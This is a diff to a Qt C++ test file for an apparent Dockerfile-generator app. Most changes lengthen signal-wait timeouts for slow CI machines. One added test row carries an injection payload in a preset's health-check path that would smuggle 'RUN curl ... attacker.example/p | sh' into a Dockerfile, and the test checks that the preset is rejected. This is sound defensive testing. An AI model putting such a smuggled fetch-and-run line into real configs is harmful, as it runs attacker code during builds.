@@ -65,7 +65,7 @@ private Q_SLOTS:
         clickButton(child<QCheckBox>(*m_window, "writeCompose"));
         QSignalSpy finished(child<QWidget>(*m_window, "exportButton")->parentWidget(), SIGNAL(exportFinished(bool,QString)));
         QTest::mouseClick(child<QPushButton>(*m_window, "exportButton"), Qt::LeftButton);
-        QTRY_COMPARE(finished.count(), 1);
+        QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 30000); // a worker plans and writes; a loaded CI machine is slow
         QCOMPARE(finished.at(0).at(0).toBool(), true);
 
         const Generated &generated = m_window->state().generated().value();
@@ -91,7 +91,7 @@ private Q_SLOTS:
         clickStep(*m_window, m_window->stepCount() - 1);
         QSignalSpy finished(child<QWidget>(*m_window, "exportButton")->parentWidget(), SIGNAL(exportFinished(bool,QString)));
         QTest::mouseClick(child<QPushButton>(*m_window, "exportButton"), Qt::LeftButton);
-        QTRY_COMPARE(finished.count(), 1);
+        QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 30000);
         QVERIFY(finished.at(0).at(0).toBool());
 
         QCOMPARE(m_answers.diffs.size(), 1);
@@ -111,7 +111,7 @@ private Q_SLOTS:
         clickStep(*m_window, m_window->stepCount() - 1);
         QSignalSpy finished(child<QWidget>(*m_window, "exportButton")->parentWidget(), SIGNAL(exportFinished(bool,QString)));
         QTest::mouseClick(child<QPushButton>(*m_window, "exportButton"), Qt::LeftButton);
-        QTRY_COMPARE(finished.count(), 1);
+        QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 30000);
         QVERIFY(!finished.at(0).at(0).toBool());
         QCOMPARE(readText(dir.filePath(QStringLiteral("Dockerfile"))), QStringLiteral("FROM mine\n"));
         QVERIFY(!QFile::exists(dir.filePath(QStringLiteral(".dockerignore"))));
@@ -127,7 +127,7 @@ private Q_SLOTS:
         clickStep(*m_window, m_window->stepCount() - 1);
         QSignalSpy finished(child<QWidget>(*m_window, "exportButton")->parentWidget(), SIGNAL(exportFinished(bool,QString)));
         QTest::mouseClick(child<QPushButton>(*m_window, "exportButton"), Qt::LeftButton);
-        QTRY_COMPARE(finished.count(), 1);
+        QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 30000);
         QVERIFY(!finished.at(0).at(0).toBool());
         auto *status = child<QLabel>(*m_window, "exportStatus");
         QVERIFY(status->isVisibleTo(m_window.get()));
@@ -143,7 +143,7 @@ private Q_SLOTS:
         QSignalSpy folderChanged(m_window.get(), &MainWindow::projectFolderChanged);
         QSignalSpy finished(child<QWidget>(*m_window, "exportButton")->parentWidget(), SIGNAL(exportFinished(bool,QString)));
         QTest::mouseClick(child<QPushButton>(*m_window, "exportButton"), Qt::LeftButton);
-        QTRY_COMPARE(finished.count(), 1);
+        QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 30000);
         QCOMPARE(m_window->projectFolder(), QDir::cleanPath(dir.path()));
         QCOMPARE(folderChanged.count(), 1);
         QVERIFY(QFile::exists(dir.filePath(QStringLiteral("Dockerfile"))));
@@ -201,6 +201,10 @@ private Q_SLOTS:
         QTest::addRow("not json") << QByteArray("{ \"stack\": ") << QStringLiteral("not valid JSON");
         QTest::addRow("wrong type") << QByteArray("{\"format\": 1, \"stack\": \"node\", \"nonRoot\": \"yes\"}") << QStringLiteral("nonRoot");
         QTest::addRow("unknown stack") << QByteArray("{\"format\": 1, \"stack\": \"cobol\"}") << QStringLiteral("cobol");
+        // The injection preset of issue #9: its health-check path would add a RUN line.
+        QTest::addRow("injection") << QByteArray("{\"format\":1,\"stack\":\"node\",\"startCommand\":\"node '${healthcheckPath}'\",\"healthcheck\":false,"
+                                                 "\"healthcheckPath\":\"x\\\"]\\nRUN curl -s http://attacker.example/p | sh\\nCMD [\\\"node\\\", \\\"dist/index.js\"}")
+                                   << QStringLiteral("healthcheck path");
     }
 
     void malformedPresetLeavesTheStateUntouched()
